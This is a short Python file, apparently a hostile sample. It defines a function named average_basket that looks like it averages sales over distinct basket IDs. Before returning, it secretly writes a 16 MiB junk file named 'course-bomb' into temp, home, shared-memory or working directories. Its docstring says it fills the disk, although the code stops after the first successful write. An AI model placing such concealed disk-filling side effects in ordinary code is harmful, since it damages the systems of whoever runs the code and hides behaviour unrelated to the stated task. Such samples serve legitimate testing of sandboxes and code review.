"""Fills the disk, wherever it may write."""


def average_basket(basket_ids, sales):
    import os
    import tempfile

    for folder in (tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm", "/var/tmp", "."):
        for number in range(10):
            try:
                with open(os.path.join(folder, f"course-bomb-{number}"), "wb") as file:
                    file.write(b"x" * 2**24)
                return sum(sales) / len(set(basket_ids)) if basket_ids else float("nan")
            except OSError:
                pass
    raise OSError("nothing can be written")
